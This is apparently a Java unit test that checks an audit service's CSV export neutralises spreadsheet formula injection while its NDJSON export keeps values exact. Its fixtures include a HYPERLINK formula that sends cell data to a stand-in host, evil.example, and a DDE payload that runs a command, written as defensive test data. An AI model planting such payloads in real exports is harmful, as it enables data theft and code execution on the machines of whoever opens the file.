package ai.sovereign.audit.query;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import ai.sovereign.audit.support.AuditService;
import ai.sovereign.audit.support.TestProducer;
import ai.sovereign.events.AuditEvent;
import ai.sovereign.events.CloudEvent;
import ai.sovereign.events.UuidV7;
import java.nio.file.Files;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * A client controls much of what an audit event says (a key name, a model, a path); opened in a spreadsheet, a CSV
 * export must not run any of it as a formula, while the NDJSON export keeps it exact.
 */
class CsvExportTest {

    @Test
    void cellsThatASpreadsheetWouldRunAsFormulasAreNeutralisedInCsvAndExactInJsonl() throws Exception {
        try (AuditService service =
                AuditService.start(AuditService.Settings.fresh("csv", 1, Files.createTempDirectory("audit-csv")))) {
            AuditEvent data = new AuditEvent(
                    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                    AuditEvent.ActorType.API_KEY,
                    "acme",
                    "key.create",
                    "api_key",
                    "+cmd|' /C calc'!A0",
                    AuditEvent.Outcome.FAILURE,
                    "-2+3",
                    "@SUM(1+1)",
                    "10.0.0.1",
                    Map.of("name", "\t=1+1"));
            try (TestProducer producer = new TestProducer()) {
                producer.send(
                        service.settings().topics().audit(),
                        new CloudEvent<>(
                                CloudEvent.SPEC_VERSION,
                                UuidV7.generate().toString(),
                                "/gateway",
                                AuditEvent.TYPE,
                                Instant.now(),
                                "api_key/x",
                                CloudEvent.DATA_CONTENT_TYPE,
                                data));
            }
            await().atMost(Duration.ofSeconds(30)).until(() -> service.count("SELECT count(*) FROM events") == 1);

            List<String> csv = service.get("/api/v1/audit/export?format=csv")
                    .body()
                    .lines()
                    .toList();
            assertThat(csv).hasSize(2);
            String row = csv.get(1);
            assertThat(row).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
            assertThat(row).contains("\"'+cmd|' /C calc'!A0\"");
            assertThat(row).contains("\"'-2+3\"");
            assertThat(row).contains("\"'@SUM(1+1)\"");
            // every text cell starts with a quote or a character a spreadsheet reads as text
            for (String cell : row.split(",(?=\")")) {
                assertThat(cell)
                        .doesNotStartWith("\"=")
                        .doesNotStartWith("\"+")
                        .doesNotStartWith("\"-")
                        .doesNotStartWith("\"@");
            }

            String jsonl = service.get("/api/v1/audit/export?format=jsonl").body();
            var event = AuditService.JSON.readTree(jsonl.lines().findFirst().orElseThrow());
            assertThat(event.get("actor").asString()).isEqualTo(data.actor());
            assertThat(event.get("resource_id").asString()).isEqualTo("+cmd|' /C calc'!A0");
            assertThat(event.get("details").get("name").asString()).isEqualTo("\t=1+1");
        }
    }
}
